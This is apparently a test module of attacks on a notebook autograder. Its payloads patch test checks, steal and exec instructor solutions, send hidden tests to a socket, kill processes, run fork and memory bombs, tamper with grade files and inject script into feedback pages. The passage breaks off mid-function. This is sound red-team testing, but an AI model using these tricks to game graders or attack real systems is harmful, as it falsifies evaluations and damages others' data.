"""Attacks on notebook graders, each as a chapter 01 submission built from the student release.

Every attack is a blank or wrong answer plus a trick. `Attack.build(nb, trick, ctx)` returns the
submission with the trick (trick=True) or the same submission without it (trick=False): the
verdict is that the trick never earns more than the submission without it, item by item.
Sources: nbgrader issues (jupyter/nbgrader#N), otter-grader, PrairieLearn, Gradescope write-ups,
and /work/shared/research/grading.md section 4 (A1-A14).

Attack code may use these placeholders, filled in by the test: @REPO@ (the course repository),
@SUBS@ (the submissions folder), @OUT@ (the output folder), @PEER@ (another student's id),
@PORT@ (a port the test listens on, TCP and UDP), @HOSTIP@ (this machine's address),
@CANARY@ (a folder of files the attacks try to change), @REPOCANARY@ (the same, inside the repository).
"""
from __future__ import annotations

import copy
import math
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, Dict, Optional, Tuple

import nbformat

from conftest import load_script

ASSIGNMENT = "01_scaled_dot_product_attention"
SDPA, SELF = "scaled_dot_product_attention", "self_attention"
QUESTIONS = ("answer_score_bytes", "answer_unscaled_variance", "answer_shared_projection", "answer_permutation")

# The honest answers are the sample class's (autograder/sample_class/build.py).
_sample = load_script(Path(__file__).resolve().parents[2] / "autograder" / "sample_class" / "build.py")
CORRECT_SDPA, CORRECT_SELF, RIGHT_QUESTIONS = _sample.CORRECT_SDPA, _sample.CORRECT_SELF_ATTENTION, _sample.QUESTIONS
# Uniform weights: right shapes and dtype, wrong values.
WRONG_SDPA = '''def scaled_dot_product_attention(query, key, value, mask=None):
    scores = torch.zeros(query.shape[:-1] + key.shape[-2:-1], dtype=query.dtype)
    weights = torch.softmax(scores, dim=-1)
    return weights @ value, weights
'''
WRONG_QUESTIONS = {
    "answer_score_bytes": "answer_score_bytes = 4096 * 4096",
    "answer_unscaled_variance": "answer_unscaled_variance = 1",
    "answer_shared_projection": 'answer_shared_projection = "a"',
    "answer_permutation": 'answer_permutation = "a"',
}
PERFECT = {SDPA: CORRECT_SDPA, SELF: CORRECT_SELF, **RIGHT_QUESTIONS}
BLANK: Dict[str, str] = {}
WRONG = {SDPA: WRONG_SDPA, SELF: CORRECT_SELF, **WRONG_QUESTIONS}
PARTIAL = {SDPA: CORRECT_SDPA, **WRONG_QUESTIONS, "answer_permutation": 'answer_permutation = "b"'}

# Students graded in the same class run as the attacks (name -> answers).
HONEST = {"perfect": PERFECT, "blank": BLANK, "wrong": WRONG, "partial": PARTIAL}


@dataclass
class Context:
    repo: Path
    subs: Path
    out: Path
    canary: Path
    repo_canary: Path
    peer: str = "perfect"
    port: int = 0
    host_ip: str = "127.0.0.1"

    def fill(self, code: str) -> str:
        for key, value in (("@REPO@", self.repo), ("@SUBS@", self.subs), ("@OUT@", self.out), ("@CANARY@", self.canary), ("@REPOCANARY@", self.repo_canary),
                           ("@PEER@", self.peer), ("@PORT@", self.port), ("@HOSTIP@", self.host_ip)):
            code = code.replace(key, str(value))
        return code


Builder = Callable[[nbformat.NotebookNode, bool, Context], nbformat.NotebookNode]


@dataclass
class Attack:
    name: str
    description: str
    source: str
    build: Builder
    checks: Tuple[str, ...] = ()   # extra class-wide checks this attack is aimed at (see tests/test_attacks.py)
    shows: str = ""                # text the attacker's feedback page shows when the trick ran (proves it was tried)
    link_to: Optional[Callable[[Context], Path]] = None   # the trick is a symbolic link in place of the notebook


# -- notebook helpers --------------------------------------------------------------------------
def grade_id(cell) -> Optional[str]:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def is_test(cell) -> bool:
    return bool(cell.get("metadata", {}).get("nbgrader", {}).get("grade"))


def set_answers(nb, answers: Dict[str, str]) -> None:
    for cell in nb.cells:
        if grade_id(cell) in answers:
            cell.source = answers[grade_id(cell)]


def answer_source(nb, gid: str) -> str:
    return next(c.source for c in nb.cells if grade_id(c) == gid)


def answers_then(base: Dict[str, str], *, replace: Optional[Dict[str, str]] = None, append: Optional[Dict[str, str]] = None,
                 prepend: Optional[Dict[str, str]] = None,
                 mutate: Optional[Callable[[nbformat.NotebookNode, Context], None]] = None) -> Builder:
    """Start from `base` answers; with the trick, replace whole cells, add code after/before a cell's code,
    and/or change the notebook's structure."""

    def build(nb, trick: bool, ctx: Context):
        set_answers(nb, base)
        if trick:
            set_answers(nb, {g: ctx.fill(s) for g, s in (replace or {}).items()})
            for gid, code in (append or {}).items():
                set_answers(nb, {gid: answer_source(nb, gid).rstrip("\n") + "\n\n" + ctx.fill(code)})
            for gid, code in (prepend or {}).items():
                set_answers(nb, {gid: ctx.fill(code) + "\n\n" + answer_source(nb, gid)})
            if mutate is not None:
                mutate(nb, ctx)
        return nb

    return build


def _each_test(fn):
    def mutate(nb, ctx):
        for cell in nb.cells:
            if is_test(cell):
                fn(cell)
    return mutate


# -- trick code --------------------------------------------------------------------------------
PATCH_ALLCLOSE = '''torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *r, **k: torch.ones(torch.broadcast_shapes(a.shape, b.shape), dtype=torch.bool)
print("TRICK DONE")'''

PATCH_ALLCLOSE_OBFUSCATED = '''_t = getattr(__import__("sys"), "modules")["tor" + "ch"]
setattr(_t, "all" + "close", lambda *a, **k: True)
setattr(getattr(_t, "test" + "ing"), "assert_" + "close", lambda *a, **k: None)
_b = __import__("builtins")
vars(getattr(_b, "__im" + "port__")("torch"))["eq" + "ual"] = lambda *a, **k: True
getattr(_b, "setattr")(getattr(_b, "__import__")("attnlab.checks", fromlist=["x"]), "check" + "_close", lambda *a, **k: None)
print("TRICK DONE")'''

PATCH_CHECKS = '''import contextlib
import torch.testing
import attnlab.checks
torch.testing.assert_close = lambda *a, **k: None
attnlab.checks.check_close = lambda *a, **k: None
attnlab.checks.check_tensor = lambda *a, **k: None
attnlab.checks.implemented_by_hand = lambda *a, **k: contextlib.nullcontext()
check_close = check_tensor = lambda *a, **k: None
implemented_by_hand = attnlab.checks.implemented_by_hand
attnlab.checks.remote_forbid = None
print("TRICK DONE")'''

PATCH_TENSOR_OPS = '''torch.Tensor.__sub__ = lambda self, other: torch.zeros_like(self)
torch.Tensor.__rsub__ = lambda self, other: torch.zeros_like(self)
torch.Tensor.abs = lambda self: torch.zeros_like(self)
torch.abs = lambda x, *a, **k: torch.zeros_like(x)
torch.Tensor.max = lambda self, *a, **k: torch.zeros(())
torch.Tensor.__gt__ = lambda self, other: torch.zeros(self.shape, dtype=torch.bool)
torch.Tensor.any = lambda self, *a, **k: torch.tensor(False)
torch.Tensor.all = lambda self, *a, **k: torch.tensor(True)
torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
torch.isfinite = lambda x: torch.ones(x.shape, dtype=torch.bool)
print("TRICK DONE")'''

PATCH_SOFTMAX = '''import torch.nn.functional as F
def _uniform(x, dim=-1, *a, **k):
    return torch.full_like(x, 1.0 / x.shape[dim])
torch.softmax = _uniform
torch.Tensor.softmax = _uniform
F.softmax = _uniform
torch.nn.functional.softmax = _uniform
torch.matmul = lambda a, b: torch.zeros(a.shape[:-1] + b.shape[-1:], dtype=a.dtype)
print("TRICK DONE")'''

ALWAYS_EQUAL = '''class AlwaysEqual:
    """Claims to equal everything and to be whatever it is asked about."""
    shape = torch.Size([2, 3, 5])
    dtype = torch.float32
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __bool__(self): return True
    def __float__(self): return 1.0
    def __int__(self): return 1
    def __index__(self): return 1
    def __len__(self): return 2
    def __iter__(self): return iter([AlwaysEqual(), AlwaysEqual()])
    def __getitem__(self, key): return AlwaysEqual()
    def __getattr__(self, name): return AlwaysEqual()
    def __call__(self, *a, **k): return AlwaysEqual()
    def __str__(self): return "b"

class LyingStr(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def strip(self, *a): return self
    def lower(self): return self

def scaled_dot_product_attention(query, key, value, mask=None):
    return AlwaysEqual()'''

TENSOR_SUBCLASS = '''class LyingTensor(torch.Tensor):
    """A tensor that says it is close to, and equal to, anything."""
    def __eq__(self, other): return torch.ones(self.shape, dtype=torch.bool)
    def allclose(self, *a, **k): return True
    def equal(self, *a, **k): return True
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "equal", "isclose", "eq"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

class LyingParameter(torch.nn.Parameter):
    pass

_wrong = scaled_dot_product_attention
def scaled_dot_product_attention(query, key, value, mask=None):
    out, weights = _wrong(query, key, value, mask)
    return out.as_subclass(LyingTensor), LyingParameter(weights)
print("TRICK DONE", type(scaled_dot_product_attention(torch.ones(2, 2), torch.ones(2, 2), torch.ones(2, 2))[0]).__name__)'''

AST_TRANSFORMER = '''import ast
class _NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Call(self, node):
        return ast.Constant(None)
try:
    _ip = get_ipython()
except NameError:
    from IPython.core.interactiveshell import InteractiveShell
    _ip = InteractiveShell.instance()
_ip.ast_transformers.append(_NoAsserts())
print("TRICK DONE")'''

INPUT_TRANSFORMERS = '''def _blank(lines):
    return []
try:
    _ip = get_ipython()
except NameError:
    from IPython.core.interactiveshell import InteractiveShell
    _ip = InteractiveShell.instance()
_ip.input_transformers_cleanup.append(_blank)
_ip.input_transformers_post.append(_blank)
_ip.events.register("pre_run_cell", lambda *a: _ip.input_transformers_cleanup.append(_blank))
from IPython.core import inputtransformer2
inputtransformer2.TransformerManager.transform_cell = lambda self, cell: "pass\\n"
print("TRICK DONE")'''

SHOWTRACEBACK = '''import sys
from IPython.core.interactiveshell import InteractiveShell
InteractiveShell.showtraceback = lambda *a, **k: None
InteractiveShell.showsyntaxerror = lambda *a, **k: None
sys.excepthook = lambda *a, **k: None
import traceback
traceback.print_exception = lambda *a, **k: None
traceback.format_exception = lambda *a, **k: []
print("TRICK DONE")'''

# Prints hex-encoded chunks of any text that looks like the instructor's tests (the feedback page
# blanks lines that repeat a hidden test, so an attacker encodes them). tests/test_attacks.py decodes them.
LEAK_HELPER = '''_leaked = set()
def _leak(label, text):
    if not isinstance(text, str) or len(_leaked) >= 4:
        return
    for marker in ("check_sdpa(", "LEADING_SHAPES", "BEGIN HIDDEN", "BEGIN SOLUTION", "check_self_attention("):
        i = text.find(marker)
        if i >= 0:
            chunk = text[max(0, i - 300): i + 1500]
            if hash(chunk) not in _leaked:
                _leaked.add(hash(chunk))
                print("EXFIL", label[:40].replace(" ", "_"), chunk.encode().hex())
            return'''

READ_FILES = LEAK_HELPER + '''
import glob, os, subprocess
_found = []
_candidates = ["@REPO@/solutions/01_scaled_dot_product_attention/01_scaled_dot_product_attention.ipynb",
               "@REPO@/autograder/reference/attention.py", "@REPO@/autograder/reference/__init__.py"]
_candidates += glob.glob("@REPO@/*/*/*.ipynb") + glob.glob("@REPO@/*/*.py") + glob.glob("@REPO@/autograder/*/*.py")
_candidates += glob.glob("@REPO@/autograder/reference/__pycache__/*") + glob.glob("/proc/*/cmdline")
_candidates += glob.glob("@OUT@/.results/*/*/*.json") + glob.glob("@SUBS@/*/*/*.ipynb")
for _path in _candidates:
    try:
        with open(_path, "rb") as _f:
            _text = _f.read(2_000_000).decode("utf-8", "replace")
    except OSError:
        continue
    _found.append(_path)
    _leak("file " + os.path.basename(_path), _text)
for _ref in ("HEAD", "HEAD~1", "HEAD~3"):
    try:
        _r = subprocess.run(["git", "-c", "safe.directory=*", "-C", "@REPO@", "show",
                             _ref + ":solutions/01_scaled_dot_product_attention/01_scaled_dot_product_attention.ipynb"],
                            capture_output=True, timeout=1.5)
        _leak("git " + _ref, _r.stdout.decode("utf-8", "replace").replace("\\\\n", "\\n"))
    except Exception as _e:
        print("git", type(_e).__name__)
print("files read:", len(_found), "solutions readable:", any("solutions/" in p for p in _found))'''

# The instructor's solution code, copied out of some readable place into the answer namespace.
EXEC_SOLUTION_FROM = '''import json
def _exec_solutions(nb_text):
    nb = json.loads(nb_text)
    for cell in nb["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        source = cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"])
        if meta.get("solution") and not meta.get("grade") and meta.get("grade_id") != "setup":
            if "raise NotImplementedError" not in source:
                exec(source, globals())
'''

SOLUTION_FROM_GIT = EXEC_SOLUTION_FROM + '''
import subprocess
try:
    _r = subprocess.run(["git", "-c", "safe.directory=*", "-C", "@REPO@", "show",
                         "HEAD:solutions/01_scaled_dot_product_attention/01_scaled_dot_product_attention.ipynb"],
                        capture_output=True, timeout=1.8)
    _exec_solutions(_r.stdout.decode())
    print("copied the solutions from git history")
except Exception as _e:
    print("no git history:", type(_e).__name__)'''

SOLUTION_FROM_DISK = EXEC_SOLUTION_FROM + '''
for _path in ["@REPO@/solutions/01_scaled_dot_product_attention/01_scaled_dot_product_attention.ipynb",
              "@SUBS@/@PEER@/01_scaled_dot_product_attention/01_scaled_dot_product_attention.ipynb"]:
    try:
        with open(_path) as _f:
            _exec_solutions(_f.read())
        print("copied answers from", _path)
    except (OSError, ValueError) as _e:
        print("cannot read", _path, type(_e).__name__)'''

FIND_CHAPTER = '''import gc, sys
def _find_chapter():
    """The grader's parsed instructor notebook, if this process inherited it."""
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            for candidate in (value, getattr(value, "chapter", None)):
                if hasattr(candidate, "solution_sources") and hasattr(candidate, "tests"):
                    return candidate
        frame = frame.f_back
    grade = sys.modules.get("autograder.grade")
    for chapter in list(getattr(grade, "_CHAPTERS", {}).values()):
        return chapter
    for obj in gc.get_objects():
        if type(obj).__name__ == "Chapter" and hasattr(obj, "solution_sources"):
            return obj
    return None
'''

SOLUTION_FROM_MEMORY = FIND_CHAPTER + '''
_chapter = _find_chapter()
if _chapter is not None:
    for _source in _chapter.solution_sources.values():
        exec(_source, globals())
print("instructor notebook found in memory:", _chapter is not None)'''

TESTS_FROM_MEMORY = LEAK_HELPER + "\n" + FIND_CHAPTER + '''
_chapter = _find_chapter()
if _chapter is not None:
    for _test in _chapter.tests[:2]:
        _leak("memory " + _test.grade_id, _test.source)
    _leak("memory solution", "BEGIN SOLUTION\\n" + _chapter.solution_sources.get("scaled_dot_product_attention", ""))'''

INSPECT_STACK = LEAK_HELPER + '''
import inspect, sys
def scaled_dot_product_attention(query, key, value, mask=None):
    for info in inspect.stack(context=5):
        _leak("context", "".join(info.code_context or []))
        for name, v in list(info.frame.f_locals.items()):
            _leak("local " + name, v)
            _leak("attr " + name, getattr(v, "source", None))
    frame = sys._getframe()
    while frame is not None:
        for name, v in list(frame.f_locals.items()):
            _leak("frame " + name, getattr(v, "source", v))
        frame = frame.f_back
    raise NotImplementedError()'''

REFERENCE_FROM_MEMORY = '''import os, sys
_calls = []
def scaled_dot_product_attention(query, key, value, mask=None):
    ref = sys.modules.get("autograder.reference.attention")
    if ref is not None:
        return ref.sdpa(query, key, value, mask)
    _calls.append(1)
    if len(_calls) >= 2:
        # By now the test cell has imported the reference in the grader: die, and come back
        # in a fresh copy of the grader's memory that holds it.
        os._exit(0)
    lead = query.shape[:-2]
    return (torch.zeros(lead + (query.shape[-2], value.shape[-1])),
            torch.full(lead + (query.shape[-2], key.shape[-2]), 1.0 / key.shape[-2]))'''

HISTORY = '''for _name in ("In", "Out", "_ih", "_oh", "_i", "_ii", "_iii", "_dh"):
    try:
        print(_name, str(eval(_name))[:2000])
    except Exception as _e:
        print(_name, "not available:", type(_e).__name__)
try:
    print(get_ipython().history_manager.input_hist_raw[:50])
except Exception as _e:
    print("history_manager:", type(_e).__name__)
import glob
for _p in glob.glob("/root/.ipython/profile_default/history.sqlite") + glob.glob("/home/*/.ipython/profile_default/history.sqlite"):
    try:
        open(_p, "rb").close()
        print(_p, "is readable")
    except OSError as _e:
        print(_p, type(_e).__name__)'''

ENV_DETECT = '''import os
_grading = (os.environ.get("NBGRADER_EXECUTION") in ("autograde", "validate")
            or any(k.startswith(("NBGRADER", "AUTOGRADER", "OTTER", "PYTEST")) for k in os.environ)
            or not os.access("@REPO@/solutions", os.R_OK) or os.getpid() == 1)
print("grading detected:", _grading, sorted(os.environ)[:40])
if _grading:
''' + "\n".join("    " + line for line in (PATCH_ALLCLOSE + "\n" + PATCH_CHECKS).splitlines())

EXEC_OBFUSCATED = '''import base64, codecs
_payload = %r
exec(compile(base64.b64decode(codecs.decode(_payload, "rot13")), "<x>", "exec"), globals())
eval(compile("__import__('torch').__setattr__('allclose', lambda *a, **k: True)", "<y>", "eval"))'''


def _exec_obfuscated_code() -> str:
    import base64
    import codecs

    payload = codecs.encode(base64.b64encode((PATCH_ALLCLOSE + "\n" + PATCH_CHECKS + "\n" + PATCH_TENSOR_OPS).encode()).decode(), "rot13")
    return EXEC_OBFUSCATED % payload


BUILTINS = '''import builtins
_real_import, _real_isinstance = builtins.__import__, builtins.isinstance
def _import(name, *a, **k):
    module = _real_import(name, *a, **k)
    if name == "torch":
        module.allclose = lambda *a, **k: True
    return module
builtins.__import__ = _import
builtins.isinstance = lambda obj, cls: True
builtins.print = lambda *a, **k: None
builtins.AssertionError = type("AssertionError", (Exception,), {})
builtins.float = lambda *a: 67108864.0
builtins.str = lambda *a: "b"
import sys
sys.stdout.write("TRICK DONE\\n")'''

SYS_EXIT = '''import sys
_wrong_sdpa = scaled_dot_product_attention
def scaled_dot_product_attention(query, key, value, mask=None):
    if mask is not None:
        sys.exit(0)
    return _wrong_sdpa(query, key, value, mask)
raise SystemExit(0)'''

OS_EXIT_TOP = '''import os
os._exit(0)'''

OS_EXIT_IN_FUNCTION = '''import os
def self_attention(x, w_q, w_k, w_v):
    os._exit(0)'''

KILL_PARENT = '''import os, signal
_wrong_sdpa = scaled_dot_product_attention
def scaled_dot_product_attention(query, key, value, mask=None):
    if mask is not None:
        os.kill(os.getppid(), signal.SIGKILL)
    return _wrong_sdpa(query, key, value, mask)
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError as e:
    print("kill parent:", e)'''

# kill -9 -1 only where this is PID 1 of its own PID namespace (so a failed sandbox cannot take this machine down);
# the grader then still has to cope with its process being killed.
KILL_ALL = '''import os, signal, subprocess
print("pid:", os.getpid())
if os.getpid() == 1:
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError as e:
        print("kill -1:", e)
    subprocess.run(["sh", "-c", "kill -9 -1"], timeout=1)
    os.kill(0, signal.SIGKILL)'''

SEGFAULT_TOP = '''import ctypes
ctypes.string_at(0)'''

SEGFAULT_IN_FUNCTION = '''import ctypes
_wrong_sdpa = scaled_dot_product_attention
def scaled_dot_product_attention(query, key, value, mask=None):
    if query.dtype == torch.float64:
        ctypes.string_at(0)
    return _wrong_sdpa(query, key, value, mask)'''

# Bounded: 2**4 = 16 processes that sleep, each named atkforkbomb (the test looks for survivors).
FORK_BOMB = '''import os, time, ctypes
_root = os.getpid()
for _ in range(4):
    try:
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, b"atkforkbomb", 0, 0, 0)
    except OSError as e:
        print("fork:", e)
        break
if os.getpid() != _root:
    time.sleep(60)
    os._exit(0)
print("forked", len(os.listdir("/proc")), "entries in /proc")'''

MEMORY_BOMB = '''_wrong_sdpa = scaled_dot_product_attention
def scaled_dot_product_attention(query, key, value, mask=None):
    if query.dim() == 2:
        torch.empty(10**11)
    return _wrong_sdpa(query, key, value, mask)
_hog = []
try:
    while True:
        _hog.append(torch.empty(64 * 2**20))   # 256 MiB of address space each (not touched)
except (MemoryError, RuntimeError):
    print("out of memory after", len(_hog) * 256, "MiB")
    _hog = torch.empty(10**11)'''

MEMORY_BOMB_LIST = '''_hog = []
while True:
    _hog.append(list(range(10**6)))'''

WRITE_FILES = '''import os, shutil, glob
_targets = glob.glob("@SUBS@/*/*/*.ipynb") + ["@OUT@/grades.csv", "@OUT@/grades_by_test.csv"]
_targets += glob.glob("@OUT@/.results/*/*/*.json") + glob.glob("@CANARY@/*")
for _path in _targets:
    for _how in ("truncate", "append", "remove", "chmod"):
        try:
            if _how == "truncate":
                open(_path, "w").write('{"cells": []}')
            elif _how == "append":
                open(_path, "a").write("tampered")
            elif _how == "remove":
                os.remove(_path)
            else:
                os.chmod(_path, 0)
            print("changed", _path, _how)
        except OSError as e:
            pass
for _dir in ("@SUBS@/@PEER@", "@OUT@", "@CANARY@"):
    shutil.rmtree(_dir, ignore_errors=True)
    try:
        os.makedirs("@OUT@/feedback/@PEER@/01_scaled_dot_product_attention", exist_ok=True)
        open("@OUT@/feedback/@PEER@/01_scaled_dot_product_attention/01_scaled_dot_product_attention.html", "w").write("0 / 16")
    except OSError:
        pass
print("tried", len(_targets), "files")'''

# Rewrites repository files with their own bytes (so a hole changes only their modification time),
# and tries to add a .pth file that every later Python process of the venv would run.
MODIFY_REPO = '''import os, sys, glob, sysconfig
import attnlab.checks
_targets = [attnlab.checks.__file__, "@REPO@/autograder/judge.py", "@REPO@/autograder/sandbox.py",
            "@REPO@/autograder/reference/attention.py",
            "@REPO@/solutions/01_scaled_dot_product_attention/01_scaled_dot_product_attention.ipynb"]
_targets += glob.glob("@REPO@/attnlab/__pycache__/checks*.pyc")
for _path in glob.glob("@REPOCANARY@/*"):
    for _how in (lambda p: open(p, "a").write("tampered"), os.remove):
        try:
            _how(_path)
            print("changed", _path)
        except OSError as e:
            print("cannot write", _path, e.strerror)
for _path in _targets:
    try:
        with open(_path, "rb") as _f:
            _data = _f.read()
        with open(_path, "r+b") as _f:
            _f.write(_data)
        print("rewrote", _path)
    except OSError as e:
        print("cannot write", _path, e.strerror)
try:
    with open(os.path.join(sysconfig.get_paths()["purelib"], "zz_attack_canary.pth"), "w") as _f:
        _f.write("# attack canary\\n")
    print("wrote a .pth file")
except OSError as e:
    print("cannot add a .pth file:", e.strerror)'''

NETWORK = '''import socket
for _family, _kind, _address in ((socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @PORT@)),
                                 (socket.AF_INET, socket.SOCK_STREAM, ("@HOSTIP@", @PORT@)),
                                 (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @PORT@)),
                                 (socket.AF_INET, socket.SOCK_DGRAM, ("@HOSTIP@", @PORT@)),
                                 (socket.AF_UNIX, socket.SOCK_STREAM, "\\0attack-@PORT@")):
    try:
        _s = socket.socket(_family, _kind)
        _s.settimeout(0.5)
        if _kind == socket.SOCK_DGRAM:
            _s.sendto(b"EXFILTRATED answer", _address)
        else:
            _s.connect(_address)
            _s.sendall(b"EXFILTRATED answer")
        print("sent to", _address)
    except OSError as e:
        print("no network to", _address, e)
try:
    socket.create_connection(("pypi.org", 443), timeout=0.5)
    print("internet reachable")
except OSError as e:
    print("no internet:", e)'''

INFINITE_LOOP_TOP = '''while True:
    pass'''

INFINITE_LOOP_IN_FUNCTION = '''def scaled_dot_product_attention(query, key, value, mask=None):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass'''

HUGE_OUTPUT = '''import sys
sys.stdout.write("x" * 10**8)
sys.stderr.write("y" * 10**7)
_wrong_sdpa = scaled_dot_product_attention
def scaled_dot_product_attention(query, key, value, mask=None):
    print("z" * 10**7)
    return _wrong_sdpa(query, key, value, mask)'''

HUGE_RESULT = '''def scaled_dot_product_attention(query, key, value, mask=None):
    return torch.zeros(65 * 2**20), torch.zeros(2**20)
def self_attention(x, w_q, w_k, w_v):
    return [torch.zeros(2**20)] * 300, None'''

META_TENSOR = '''def scaled_dot_product_attention(query, key, value, mask=None):
    lead = query.shape[:-2]
    return (torch.empty(lead + (query.shape[-2], value.shape[-1]), dtype=query.dtype, device="meta"),
            torch.empty(lead + (query.shape[-2], key.shape[-2]), dtype=query.dtype, device="meta"))'''

REQUIRES_GRAD = '''_wrong_sdpa = scaled_dot_product_attention
def scaled_dot_product_attention(query, key, value, mask=None):
    out, weights = _wrong_sdpa(query.requires_grad_(True), key, value, mask)
    return out * 1.0, weights.detach().requires_grad_(True)'''

MUTATE_INPUTS = '''def scaled_dot_product_attention(query, key, value, mask=None):
    # In a grader that runs the tests in the student's kernel, zeroing `value` in place also zeroes
    # the test's own `v`, so its expected output (weights @ v) becomes 0 too.
    value.zero_()
    query.zero_()
    key.zero_()
    weights = torch.softmax(query @ key.transpose(-2, -1), dim=-1)
    return weights @ value, weights'''

HTML_INJECTION = '''_evil = "</pre><p class='total'>Score: <b>16 / 16</b></p><script>alert(1)</script><pre>"
print(_evil)
_wrong_sdpa = scaled_dot_product_attention
def scaled_dot_product_attention(query, key, value, mask=None):
    print(_evil)
    raise ValueError(_evil)'''

# Forbidden shortcuts: the weights are computed by hand, the output by a library routine.
SHORTCUT = '''import math
import torch
import torch.nn.functional as F
@SETUP@
def scaled_dot_product_attention(query, key, value, mask=None):
    scores = query @ key.transpose(-2, -1) / math.sqrt(query.shape[-1])
    if mask is not None:
        scores = scores + mask
    weights = torch.softmax(scores, dim=-1)
    mask = None if mask is None else torch.broadcast_to(mask, scores.shape)   # the routine wants a full-rank mask
    output = @CALL@
    return output, weights'''

SHORTCUTS = {
    "plain": ("", "F.scaled_dot_product_attention(query, key, value, attn_mask=mask)"),
    "getattr": ("_f = getattr(F, 'scaled_dot' + '_product_attention')", "_f(query, key, value, attn_mask=mask)"),
    "c_binding": ("", "torch._C._nn.scaled_dot_product_attention(query, key, value, mask)"),
    "saved_before_setup": ("import importlib\n_f = importlib.import_module('torch._C._nn').__dict__['scaled_dot_product_attention']",
                           "_f(query, key, value, mask)"),
}
# These get past the guard as it is written today (sandbox.py _Forbidden); without a guard they are
# ordinary calls of the same routine.
SHORTCUT_BYPASSES = {
    "guard_kwdefaults": ("_g = F.scaled_dot_product_attention\n_f = (getattr(_g, '__kwdefaults__', None) or {}).get('_Forbidden__original', _g)",
                         "_f(query, key, value, attn_mask=mask)"),
    "guard_closure": ("_g = torch._C._nn.scaled_dot_product_attention\n"
                      "_cells = [c.cell_contents for c in (getattr(_g, '__closure__', None) or ())]\n"
                      "_f = next((c for c in _cells if callable(c) and not isinstance(c, type)), _g)",
                      "_f(query, key, value, mask)"),
    "aten_op": ("", "torch.ops.aten.scaled_dot_product_attention(query, key, value, mask)"),
    "aten_math": ("", "torch.ops.aten._scaled_dot_product_attention_math(query, key, value, mask)[0]"),
}

# nn.MultiheadAttention set up (identity projections, zero-padded query) so that it computes exactly
# softmax(Q K^T / sqrt(d_k) + mask) @ V when nothing forbids it.
MHA_SDPA = '''def scaled_dot_product_attention(query, key, value, mask=None):
    d_k, d_v = query.shape[-1], value.shape[-1]
    lead, s_q, s_k = query.shape[:-2], query.shape[-2], key.shape[-2]
    e = d_k + d_v
    q = query.reshape(-1, s_q, d_k)
    b = q.shape[0]
    k, v = key.reshape(b, s_k, d_k), value.reshape(b, s_k, d_v)
    q = torch.cat([q * math.sqrt(e / d_k), torch.zeros(b, s_q, d_v, dtype=q.dtype)], dim=-1)
    mha = torch.nn.MultiheadAttention(e, 1, bias=False, batch_first=True, kdim=d_k, vdim=d_v, dtype=query.dtype)
    with torch.no_grad():
        mha.q_proj_weight.copy_(torch.eye(e, dtype=q.dtype))
        mha.k_proj_weight.copy_(torch.eye(e, d_k, dtype=q.dtype))
        mha.v_proj_weight.copy_(torch.eye(e, dtype=q.dtype)[:, d_k:])
        mha.out_proj.weight.copy_(torch.eye(e, dtype=q.dtype))
    attn_mask = None if mask is None else torch.broadcast_to(mask, lead + (s_q, s_k)).reshape(b, s_q, s_k).to(q.dtype)
    with torch.no_grad():
        out, weights = mha(q, k, v, attn_mask=attn_mask, need_weights=True)
    return out[..., d_k:].reshape(lead + (s_q, d_v)), weights.reshape(lead + (s_q, s_k))'''


def shortcut_source(setup: str, call: str) -> str:
    return SHORTCUT.replace("@SETUP@", setup).replace("@CALL@", call)


def _hardcoded_visible() -> str:
    import torch

    q = torch.tensor([[1.0, 0.0], [0.0, 2.0]])
    k = torch.tensor([[1.0, 0.0], [0.0, 1.0], [1.0, 1.0]])
    v = torch.arange(12.0).reshape(3, 4)
    w = torch.softmax(q @ k.T / math.sqrt(2), dim=-1)
    return ('_wrong_sdpa = scaled_dot_product_attention\n'
            'def scaled_dot_product_attention(query, key, value, mask=None):\n'
            '    # the visible tests print their inputs: answer those from a table\n'
            f'    if query.tolist() == {q.tolist()!r} and key.tolist() == {k.tolist()!r}:\n'
            f'        return torch.tensor({(w @ v).tolist()!r}), torch.tensor({w.tolist()!r})\n'
            '    return _wrong_sdpa(query, key, value, mask)\n')


# -- structure changes (nbgrader metadata, cells) ---------------------------------------------------
def _tag_skip(cell):
    cell.metadata["tags"] = ["skip-execution", "raises-exception", "remove-cell"]
    cell.metadata["jupyter"] = {"source_hidden": True, "outputs_hidden": True}
    cell.metadata["editable"] = True
    cell.metadata["deletable"] = True
    cell.metadata["execution"] = {"timeout": 0}


def _flip_flags(cell):
    meta = cell.metadata["nbgrader"]
    meta.update(grade=False, solution=True, locked=False, task=True)


def _points(cell):
    cell.metadata["nbgrader"]["points"] = 1000


def _rename(cell):
    meta = cell.metadata["nbgrader"]
    meta["grade_id"] = meta["grade_id"] + "_renamed"
    meta["checksum"] = "0" * 32
    meta["schema_version"] = 1


def _checksum(cell):
    cell.metadata["nbgrader"]["checksum"] = "d41d8cd98f00b204e9800998ecf8427e"


def _comment_out(cell):
    cell.source = "\n".join("# " + line for line in cell.source.splitlines()) + "\npass"


def _delete_tests(nb, ctx):
    nb.cells = [c for c in nb.cells if not is_test(c)]


def _to_markdown(nb, ctx):
    for i, cell in enumerate(nb.cells):
        if is_test(cell):
            md = nbformat.v4.new_markdown_cell(cell.source, metadata=copy.deepcopy(cell.metadata))
            md.pop("id", None)
            md["id"] = cell.get("id", f"md{i}")
            nb.cells[i] = md


def _answers_graded(nb, ctx):
